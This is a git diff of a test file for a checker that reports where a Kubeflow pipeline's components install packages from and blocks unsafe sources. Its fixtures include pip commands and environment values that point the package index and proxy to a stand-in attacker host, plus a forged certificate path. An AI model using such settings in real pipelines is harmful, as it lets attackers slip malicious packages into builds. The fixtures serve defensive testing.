@@ -1,31 +1,11 @@
 import { describe, expect, it } from 'vitest';
+import { pipelineWithPrelude } from '../../../../test/fakes/pipelineWithPrelude.ts';
 import { planEnvironments } from './environments.ts';
 import { packageSources } from '../../../core/pipelineSpec/packageSources.ts';
 import { sourceBlockers } from './sourceBlockers.ts';
-import { pipelineSpecSchema } from '../../../core/pipelineSpec/schema.ts';
 
-const boot = 'python3 -m kfp.dsl.executor_main ephemeral_component.py';
-const args = ['--function_to_execute', 'fit'];
 const managed = { environment: 'managed', allowInsecureIndexes: false };
-
-/** A pipeline with one component, whose prelude runs this command. */
-const specOf = (command: string, env: readonly { name: string; value: string }[] = []) =>
-  pipelineSpecSchema.parse({
-    pipelineInfo: { name: 'x' },
-    root: {},
-    deploymentSpec: {
-      executors: {
-        'exec-fit': {
-          container: {
-            command: ['sh', '-c', `${command} && "$0" "$@"`, 'sh', '-ec', boot, 'source'],
-            args,
-            env,
-          },
-        },
-      },
-    },
-  });
-const install = (words: string) => specOf(`python3 -m pip install --quiet ${words}`);
+const install = (words: string) => pipelineWithPrelude(`python3 -m pip install --quiet ${words}`);
 const blockersOf = (words: string, rules = managed) =>
   sourceBlockers(install(words), rules).map(({ message }) => message.replace('Component fit ', ''));
 
@@ -34,7 +14,7 @@ describe('what is installed of a pipeline, and from where', () => {
     const index = '--index-url http://127.0.0.1:9/simple --trusted-host http://127.0.0.1:9/simple';
     const pip = `python3 -m pip install --quiet --no-warn-script-location ${index}`;
     const prelude = `\nif ! [ -x "$(command -v pip)" ]; then\n    python3 -m ensurepip || python3 -m ensurepip --user || apt-get install python3-pip\nfi\n\nPIP_DISABLE_PIP_VERSION_CHECK=1 ${pip} 'acme-inner-tools==1.0'  &&  ${pip} 'kfp==2.17.0' '--no-deps' 'typing-extensions>=3.7.4,<5; python_version<"3.9"'`;
-    const spec = specOf(prelude);
+    const spec = pipelineWithPrelude(prelude);
     expect(packageSources(spec)).toEqual([{ kind: 'index', value: 'http://127.0.0.1:9/simple' }]);
     expect(sourceBlockers(spec, managed)).toEqual([]);
     expect(planEnvironments(spec)).toMatchObject([
@@ -55,7 +35,7 @@ describe('what is installed of a pipeline, and from where', () => {
       { name: 'HTTPS_PROXY', value: 'http://evil.example' },
       { name: 'SSL_CERT_FILE', value: '/tmp/evil.pem' },
     ];
-    const spec = specOf(
+    const spec = pipelineWithPrelude(
       'export PIP_PROXY=http://evil.example; PIP_INDEX_URL=http://evil.example pip install x',
       env,
     );
